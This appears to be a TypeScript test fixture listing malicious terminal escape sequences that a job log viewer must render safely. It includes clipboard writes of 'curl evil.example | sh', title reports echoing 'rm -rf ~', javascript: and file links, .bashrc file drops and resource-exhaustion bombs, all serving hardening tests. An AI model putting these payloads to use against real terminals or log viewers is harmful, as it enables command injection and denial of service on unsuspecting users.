/** What a job may print to harm whoever looks at it. The page is to stay alive after each, and nothing else may happen than is said. */
export interface Attack {
  readonly name: string;
  readonly prints: string;
  /** What goes to the shell, by itself. Default: nothing. */
  readonly answers?: string | RegExp;
  /** The title that stands beside our own words. Default: none. */
  readonly title?: string;
  /** What the user is asked about for the clipboard. Default: nothing. */
  readonly wish?: string;
  /** Text that must be (left) on the screen after it. */
  readonly shows?: string;
}

export const ESC = '\u001b';
export const CSI = `${ESC}[`;
export const OSC = `${ESC}]`;
export const BEL = '\u0007';
export const ST = `${ESC}\\`;
export const most = 2_147_483_647;
export const base64 = (text: string): string => Buffer.from(text).toString('base64');
const times = (count: number, make: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => make(index)).join('');

const titles: readonly Attack[] = [
  { name: 'title with controls', prints: `${OSC}0;a\u0001b\u0008c\u007f${BEL}`, title: 'abc' },
  { name: 'title that turns around', prints: `${OSC}2;sh\u202egnp.exe${ST}`, title: 'shgnp.exe' },
  { name: 'title with isolates and marks', prints: `${OSC}2;\u2066a\u2069\u200f\u061cb${BEL}`, title: 'ab' },
  { name: 'invisible title', prints: `${OSC}2;\u200b\ufeff\u00ad\u2060${BEL}` },
  { name: 'title of a megabyte', prints: `${OSC}2;${'x'.repeat(1_000_000)}${BEL}`, title: `${'x'.repeat(79)}…` },
  { name: 'twenty thousand titles', prints: times(20_000, (n) => `${OSC}2;title ${n}${BEL}`), title: 'title 19999' },
  { name: 'title reported back', prints: `${OSC}2;\nrm -rf ~\n${BEL}${CSI}21t${CSI}20t`, title: 'rm -rf ~' },
  { name: 'title pushed and popped', prints: `${OSC}2;one${BEL}${CSI}22;0t${OSC}2;two${BEL}${CSI}23;0t`, title: 'two' },
];

const windows: readonly Attack[] = [
  { name: 'window: minimise, move, resize, raise', prints: `${CSI}2t${CSI}3;0;0t${CSI}4;10;10t${CSI}5t${CSI}8;2;2t` },
  { name: 'window: maximise, full screen', prints: `${CSI}9;1t${CSI}10;1t${CSI}24t` },
  { name: 'window: asked for size and place', prints: times(9, (n) => `${CSI}${n + 11}t`) },
  { name: 'window: 132 columns', prints: `${CSI}?40h${CSI}?3h` },
  { name: 'font and log file', prints: `${OSC}50;monospace:size=200${BEL}${OSC}46;/tmp/x${BEL}` },
];

const clipboard: readonly Attack[] = [
  {
    name: 'clipboard written',
    prints: `${OSC}52;c;${base64('curl evil.example | sh\n')}${BEL}`,
    wish: 'curl evil.example | sh\n',
  },
  { name: 'clipboard written by ST', prints: `${OSC}52;;${base64('x')}${ST}`, wish: 'x' },
  {
    name: 'the second wish does not take the place of the first',
    prints: `${OSC}52;c;${base64('harmless')}${BEL}${OSC}52;c;${base64('rm -rf ~')}${BEL}`,
    wish: 'harmless',
  },
  { name: 'clipboard read', prints: `${OSC}52;c;?${BEL}${OSC}52;p;?${ST}${OSC}52;;?${BEL}` },
  { name: 'clipboard cleared', prints: `${OSC}52;c;${BEL}${OSC}52;c;!${BEL}` },
  { name: 'clipboard: more than 75 KiB', prints: `${OSC}52;c;${base64('x'.repeat(75 * 1024 + 1))}${BEL}` },
  {
    name: 'clipboard: exactly 75 KiB',
    prints: `${OSC}52;c;${base64('x'.repeat(75 * 1024))}${BEL}`,
    wish: 'x'.repeat(75 * 1024),
  },
  { name: 'clipboard: no base64, no UTF-8', prints: `${OSC}52;c;%%%${BEL}${OSC}52;c;/////w==${BEL}` },
  {
    name: 'clipboard: iTerm copy',
    prints: `${OSC}1337;CopyToClipboard=${BEL}evil${OSC}1337;EndOfCopy${BEL}`,
    shows: 'evil',
  },
];

const questions: readonly Attack[] = [
  { name: 'device attributes', prints: `${CSI}c${CSI}>c`, answers: `${CSI}?1;2c${CSI}>0;276;0c` },
  { name: 'status and cursor', prints: `ab${CSI}5n${CSI}6n`, answers: `${CSI}0n${CSI}1;3R` },
  { name: 'answerback', prints: '\u0005\u0005' },
  { name: 'DECRQSS does not echo what it is asked', prints: `${ESC}P$q\nrm -rf ~\n${ST}`, answers: `${ESC}P0$r${ST}` },
  { name: 'DECRQSS of colours', prints: `${ESC}P$qm${ST}`, answers: `${ESC}P1$r0m${ST}` },
  { name: 'DECRQM', prints: `${CSI}?2004$p`, answers: `${CSI}?2004;2$y` },
  { name: 'DECUDK defines no keys', prints: `${ESC}P0;0|17/726d202d7266${ST}` },
  { name: 'terminfo asked for (XTGETTCAP)', prints: `${ESC}P+q544e${ST}` },
  { name: 'checksum of the screen (DECRQCRA)', prints: `secret${CSI}1;1;1;1;1;6*y` },
  {
    name: 'ten thousand cursor reports are not all answered',
    prints: `${CSI}6n`.repeat(10_000),
    answers: new RegExp(`^(?:${ESC}\\[1;1R){200,999}$`),
  },
  {
    name: 'colours asked for by the thousand in one sequence',
    prints: `${OSC}4;${times(5000, (n) => `${n % 256};?;`)}${BEL}`,
  },
  { name: 'locator and mouse asked for', prints: `${CSI}?1003h${CSI}1'|${CSI}?1003l` },
];

const links: readonly Attack[] = [
  { name: 'link to script', prints: `${OSC}8;;javascript:alert(1)${BEL}click${OSC}8;;${BEL}`, shows: 'click' },
  { name: 'link to a file', prints: `${OSC}8;;file:///etc/passwd${BEL}click${OSC}8;;${BEL}`, shows: 'click' },
  {
    name: 'link with a name and a password',
    prints: `${OSC}8;;https://gitlab.com:x@evil.example/${BEL}x${OSC}8;;${BEL}`,
  },
  { name: 'link of a megabyte', prints: `${OSC}8;;https://e.example/${'x'.repeat(1_000_000)}${BEL}x${OSC}8;;${BEL}` },
  { name: 'ten thousand links', prints: times(10_000, (n) => `${OSC}8;;https://e.example/${n}${BEL}x${OSC}8;;${BEL}`) },
  { name: 'link that is never closed', prints: `${OSC}8;;https://evil.example/${BEL}all of it` },
];

const messages: readonly Attack[] = [
  {
    name: 'notifications',
    prints: `${OSC}9;your token has expired${BEL}${OSC}777;notify;GitLab;sign in${BEL}${OSC}99;;x${ST}`,
  },
  { name: 'progress in the task bar', prints: `${OSC}9;4;1;50${BEL}` },
  { name: 'bells', prints: BEL.repeat(50_000) },
  { name: 'attention (iTerm)', prints: `${OSC}1337;RequestAttention=yes${BEL}${OSC}1337;StealFocus${BEL}` },
  {
    name: 'file download (iTerm)',
    prints: `${OSC}1337;File=name=${base64('.bashrc')};size=4;inline=0:${base64('evil')}${BEL}`,
  },
  {
    name: 'image bomb (iTerm)',
    prints: `${OSC}1337;File=inline=1;size=99999999999;width=99999px:${'A'.repeat(500_000)}${BEL}`,
  },
  {
    name: 'image bomb (sixel)',
    prints: `${ESC}Pq"1;1;${most};${most}#0;2;0;0;0!${most}~-${'!9999~-'.repeat(5000)}${ST}`,
  },
  { name: 'printer and media copy', prints: `${CSI}5i${CSI}4i${CSI}?5i${CSI}?4i` },
];

const counts: readonly Attack[] = [
  ...['@', 'A', 'B', 'C', 'D', 'E', 'F', 'G', 'I', 'L', 'M', 'P', 'S', 'T', 'X', 'Z', '`', 'a', 'b', 'd', 'e'].map(
    (final) => ({ name: `two thousand million times ${final}`, prints: `x${CSI}${most}${final}` }),
  ),
  { name: 'columns inserted and deleted', prints: `${CSI}${most}'}${CSI}${most}'~` },
  { name: 'the cursor far away', prints: `${CSI}${most};${most}H${CSI}${most};${most}fx`, shows: 'x' },
  { name: 'a scroll region out of this world', prints: `${CSI}${most};1r${CSI}1;${most}r${CSI}0;0r` },
  {
    name: 'numbers beyond numbers',
    prints: `${CSI}${'9'.repeat(100_000)}m${CSI}${'1;'.repeat(100_000)}m${CSI}${':1'.repeat(10_000)}m`,
  },
  { name: 'large repeats by the thousand', prints: `x${CSI}1024b`.repeat(2000) },
  { name: 'large insertions by the thousand', prints: `${CSI}1024L`.repeat(2000) },
];

const strings: readonly Attack[] = [
  { name: 'OSC without end', prints: `${OSC}2;${'x'.repeat(400_000)}` },
  { name: 'unknown OSC without end', prints: `${OSC}99999999999;${'x'.repeat(400_000)}` },
  { name: 'DCS without end', prints: `${ESC}Pq${'~'.repeat(400_000)}` },
  { name: 'DECRQSS without end', prints: `${ESC}P$q${'m'.repeat(400_000)}` },
  {
    name: 'APC, PM and SOS without end',
    prints: `${ESC}_${'x'.repeat(500_000)}${ESC}^${'x'.repeat(500_000)}${ESC}X${'x'.repeat(500_000)}`,
  },
  { name: 'marks heaped on one letter', prints: `Z${'\u0300\u0316\u0489'.repeat(30_000)}` },
  { name: 'joined emoji without end', prints: `\u{1f468}${'\u200d\u{1f469}'.repeat(20_000)}` },
  { name: 'a line of a megabyte without a break', prints: `https://${'x'.repeat(1_000_000)}` },
  { name: 'no UTF-8', prints: '\u00c3\u0028\ufffe\uffff' },
];

const modes: readonly Attack[] = [
  { name: 'the alternate screen, left on', prints: `before${CSI}?1049h${CSI}?25l${CSI}?1003h${CSI}?1006h inside` },
  { name: 'bracketed paste ended in the output', prints: `${CSI}?2004h${CSI}201~${CSI}200~` },
  {
    name: 'the colours of the text made those of the ground',
    prints: `${OSC}10;#000000${BEL}${OSC}11;#000000${BEL}hidden`,
    shows: 'hidden',
  },
  { name: 'the keyboard locked and made odd', prints: `${CSI}2h${CSI}20h${CSI}?1h${ESC}=` },
  { name: 'insert mode, odd character sets and origin', prints: `${CSI}4h${ESC}(0${ESC})0\u000e${CSI}?6h${CSI}?7l` },
  { name: 'reset, twenty thousand times', prints: `${ESC}c`.repeat(20_000) },
];

/** Those that want something of the user or of the shell: they must not have it when they are only shown again. */
export const wanting: readonly Attack[] = [...titles, ...clipboard, ...questions, ...messages];

export const attacks: readonly Attack[] = [...wanting, ...windows, ...links, ...counts, ...strings, ...modes];
